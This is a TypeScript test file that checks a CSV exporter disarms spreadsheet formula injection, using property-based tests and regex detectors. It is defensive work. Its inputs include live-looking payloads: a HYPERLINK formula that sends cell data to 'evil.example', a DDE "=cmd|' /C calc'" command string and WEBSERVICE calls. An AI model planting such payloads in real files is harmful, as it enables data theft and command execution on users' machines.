import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from '@/export/csv';

/** What a spreadsheet reads as a formula, or drops and then reads as one. */
const FORMULA = /^[\s\p{Cf}\p{Cc}]*(?:[=+\-@\uff1d\uff0b\uff0d\uff20]|(?<=[\t\r\n]))/u;
/** A formula that does more than add numbers. */
const RUNS = /^[\s\p{Cf}\p{Cc}]*(?:[=\uff1d]|[+\-@\uff0b\uff0d\uff20][^\r\n]*[(!|])/u;

function readBack(csv: string): string[][] {
  return Papa.parse<string[]>(csv, { newline: '\r\n', delimiter: ',' }).data.slice(0, -1);
}

describe('toCsv', () => {
  it.each([
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(1)',
    ' =1+1',
    '\u200b=1+1',
    '\ufeff=1',
    '\u00ad=1',
    '\u202d=1',
    '\u0000=1',
    '\uff1d1+1',
    '\uff0b1',
    '\uff0d1',
    '\uff20x',
  ])('disarms %j', (cell) => {
    expect(readBack(toCsv([[cell]]))).toEqual([[`'${cell}`]]);
  });

  it.each([
    'https://e.org/',
    '|x',
    "'=1",
    '%0A=1',
    'a;b',
    'x; -5',
    'a, =1',
    '"quoted"',
    'a,b',
    'a\nb',
    'a\r\nb',
  ])('leaves %j as it is', (cell) => {
    expect(readBack(toCsv([[cell, 'x']]))).toEqual([[cell, 'x']]);
  });

  it.each([
    ["a;=cmd|' /C calc'!A0", "a;'=cmd|' /C calc'!A0"],
    ['\t=1+1', "'\t'=1+1"],
    ['\n=1+1', "'\n'=1+1"],
    ['a; =1+1', "a; '=1+1"],
    ['a|@SUM(A1)', "a|'@SUM(A1)"],
    ['a\t+WEBSERVICE("x")', 'a\t\'+WEBSERVICE("x")'],
    ['a\n=1', "a\n'=1"],
    [`a;"=cmd|' /C calc'!A0;b`, `a;"'=cmd|' /C calc'!A0;b`],
    ['a\n" =1', `a\n" '=1`],
  ])('disarms %j for programs that expect another separator', (cell, expected) => {
    expect(readBack(toCsv([[cell]]))).toEqual([[expected]]);
  });

  // Promise output-inert-elsewhere
  it('has no formula for a program that expects any separator, and knows quotes or not', () => {
    const part = fc.constantFrom(
      'a',
      '"',
      ',',
      ';',
      '|',
      '\t',
      '\r\n',
      ' ',
      '\u00ad',
      '=1',
      '-f(',
      '@x!',
    );
    const cell = fc.array(part, { maxLength: 6 }).map((parts) => parts.join(''));
    const style = fc.record({
      separator: fc.constantFrom(',' as const, ';' as const, '\t' as const),
      decimal: fc.constant('.' as const),
      hasMark: fc.boolean(),
    });
    fc.assert(
      fc.property(fc.array(cell, { minLength: 2, maxLength: 4 }), style, (row, written) => {
        const csv = toCsv([row], written);
        const others = [',', ';', '|', '\t'].filter((other) => other !== written.separator);
        for (const other of others) {
          const cells = csv
            .split(new RegExp(`[${other}\r\n]`))
            // Two quotes are those of an empty text, which the rest follows.
            .flatMap((read) => [read.replace(/^"/, ''), read.replace(/^\s*""(?!")/, '')]);
          const quoted = Papa.parse<string[]>(csv, { delimiter: other }).data.flat();
          expect([...cells, ...quoted].filter((read) => RUNS.test(read))).toEqual([]);
        }
        const own = Papa.parse<string[]>(csv, { newline: '\r\n', delimiter: written.separator });
        expect(own.data.flat().filter((read) => FORMULA.test(read.replace(/^\ufeff/, '')))).toEqual(
          [],
        );
      }),
    );
  });

  it('reads back as written, except for apostrophes before formulas', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string(), { minLength: 2, maxLength: 4 }), { minLength: 1 }),
        (rows) => {
          const bare = (read: string[][]) =>
            read.map((row) => row.map((cell) => cell.replaceAll("'", '')));
          expect(bare(readBack(toCsv(rows)))).toEqual(bare(rows));
        },
      ),
    );
  });
});
